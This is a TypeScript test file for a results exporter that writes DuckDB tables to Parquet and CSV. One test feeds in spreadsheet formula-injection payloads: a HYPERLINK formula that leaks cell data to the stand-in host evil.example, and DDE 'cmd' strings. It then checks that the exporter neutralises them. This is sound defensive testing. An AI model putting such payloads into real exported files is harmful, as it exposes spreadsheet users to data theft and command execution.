// Export to CSV and Parquet from a real results file; Parquet is read back with DuckDB, CSV checked as text.
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FAKE_SCORES_PER_METHOD, fakeBatch } from './testing/fake-batch.ts';
import { exportResults } from './export.ts';
import { openResultStore } from './open-store.ts';

const dir = mkdtempSync(join(tmpdir(), 'adaptmr-export-'));
const file = join(dir, 'results.duckdb');
beforeAll(async () => {
  const store = await openResultStore(file);
  for (let i = 0; i < 3; i++) await store.writeQuestion(fakeBatch('r1', i, ['bm25', 'dense']));
  await store.close();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('exportResults', () => {
  it('writes every table and the view as Parquet that DuckDB reads back with types intact', async () => {
    const out = join(dir, 'parquet');
    const written = await exportResults(file, { format: 'parquet', outDir: out });
    expect(readdirSync(out).sort()).toEqual([
      'answer_verdicts.parquet',
      'answers.parquet',
      'checkpoints.parquet',
      'classifier_confusion.parquet',
      'classifier_eval.parquet',
      'classifier_predictions.parquet',
      'classifier_type_scores.parquet',
      'comparisons.parquet',
      'cutoff_answers.parquet',
      'gold_versions.parquet',
      'judge_agreement.parquet',
      'judge_comparisons.parquet',
      'llm_calls.parquet',
      'meta.parquet',
      'methods.parquet',
      'probe_answers.parquet',
      'questions.parquet',
      'retrievals.parquet',
      'runs.parquet',
      'score_cis.parquet',
      'scores.parquet',
      'scores_by_type.parquet',
      'verdicts.parquet',
    ]);
    expect(written).toHaveLength(23);
    const db = await DuckDBInstance.create(':memory:');
    const c = await db.connect();
    const count = await c.runAndReadAll(`SELECT count(*)::INTEGER AS n FROM '${join(out, 'scores.parquet')}'`);
    expect(count.getRowObjectsJS()).toEqual([{ n: 3 * 2 * FAKE_SCORES_PER_METHOD }]);
    const q = await c.runAndReadAll(
      `SELECT evidence_turn_ids FROM '${join(out, 'questions.parquet')}' ORDER BY question_id`,
    );
    expect(q.getRowObjectsJS()[0]).toEqual({ evidence_turn_ids: ['s0#1'] });
    const view = await c.runAndReadAll(`SELECT n::INTEGER AS n FROM '${join(out, 'scores_by_type.parquet')}'
      WHERE adapt_type = 'all' AND metric = 'f1' AND method = 'bm25'`);
    expect(view.getRowObjectsJS()).toEqual([{ n: 3 }]);
    c.closeSync();
    db.closeSync();
  });

  it('writes CSV with a header and list cells as JSON strings, for the chosen tables only', async () => {
    const out = join(dir, 'csv');
    await exportResults(file, { format: 'csv', outDir: out, tables: ['questions'] });
    expect(readdirSync(out)).toEqual(['questions.csv']);
    const lines = readFileSync(join(out, 'questions.csv'), 'utf8').trim().split('\n');
    expect(lines[0]).toBe(
      'run_id,dataset,question_id,text,asked_at,native_type,adapt_type,is_abstention,' +
        'evidence_session_ids,evidence_turn_ids,answer,superseded_session_ids,superseded_turn_ids,' +
        'haystack_sessions,haystack_turns,judge_evidence',
    );
    expect(lines).toContain(
      'r1,fake,q0,question 0?,2023-05-20T02:21:00Z,single-session-user,factual,false,' +
        '"[""s0""]","[""s0#1""]",answer 0,[],[],,,',
    );
  });

  it('neutralises CSV cells a spreadsheet would run as formulas (text from datasets and replies), numbers kept', async () => {
    const hostile = join(dir, 'formulas.duckdb');
    const store = await openResultStore(hostile);
    const batch = fakeBatch('r1', 0, ['bm25']);
    batch.question.text = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    batch.question.answer = "+1+cmd|' /C calc'!A0";
    batch.question.nativeType = "@SUM(1+1)*cmd|' /C calc'!A0";
    batch.question.evidenceSessionIds = ['-2+3'];
    await store.writeQuestion(batch);
    await store.close();
    const out = join(dir, 'csv-formulas');
    await exportResults(hostile, { format: 'csv', outDir: out, tables: ['questions', 'scores'] });
    const text = readFileSync(join(out, 'questions.csv'), 'utf8');
    const cells = text.trim().split('\n')[1]!;
    // Every text cell starts with a character a spreadsheet shows as text; the values are otherwise unchanged.
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(cells).toContain(`'+1+cmd|' /C calc'!A0`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(cells).not.toMatch(/(^|,)[=+\-@]/u);
    // Numeric cells (scores) stay numbers, a negative one included.
    const scores = readFileSync(join(out, 'scores.csv'), 'utf8');
    expect(scores).not.toContain("'");
  });

  it('rejects an unknown table name before writing anything', async () => {
    await expect(exportResults(file, { format: 'csv', outDir: join(dir, 'x'), tables: ['nope'] })).rejects.toThrow(
      /unknown table nope/,
    );
  });
});
